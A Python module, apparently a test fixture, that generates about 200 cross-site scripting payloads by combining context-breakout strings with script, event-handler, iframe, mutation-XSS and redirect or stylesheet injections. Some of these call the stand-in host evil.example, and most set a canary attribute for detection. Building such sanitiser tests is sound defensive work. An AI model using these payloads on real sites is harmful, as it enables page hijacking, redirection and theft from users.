"""Texts that would like to be more than text on a page: 200 ways out of where they stand × what they would do then.

Unaware of the page. Whatever runs sets the attribute `data-owned` of the root element.
"""

from __future__ import annotations

OUT = (
    "",
    '">',
    "'>",
    '" ',
    "' ",
    "</title>",
    "</style>",
    "</code>",
    "--><!-- -->",
    "]]>",
    "</textarea>",
    '\\">',
    "`>",
    "&quot;>",
    "\n>",
    "</details>",
)
_RUN = "document.documentElement.setAttribute('data-owned','')"
IN = (
    f"<script>{_RUN}</script>",
    f"<ScRiPt src=data:text/javascript,{_RUN}></sCrIpT>",
    f"<img src=x onerror={_RUN}>",
    f"<svg/onload={_RUN}>",
    f"<details open ontoggle={_RUN}>",
    f'<iframe srcdoc="<script>parent.{_RUN}</script>"></iframe>',
    f"<a href=javascript:{_RUN}>x</a>",
    "<meta http-equiv=refresh content=0;url=https://evil.example>",
    "<base href=https://evil.example/><link rel=stylesheet href=//evil.example/a.css>",
    "<style>@import '//evil.example/a.css'; *{display:none}</style>",
    f"<form action=https://evil.example><input autofocus onfocus={_RUN}>",
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={_RUN}&gt;">',
    f"onmouseover={_RUN} autofocus tabindex=1 style=position:fixed;inset:0 x",
)
PAYLOADS = tuple(dict.fromkeys(f"{out}{inside}" for out in OUT for inside in IN))
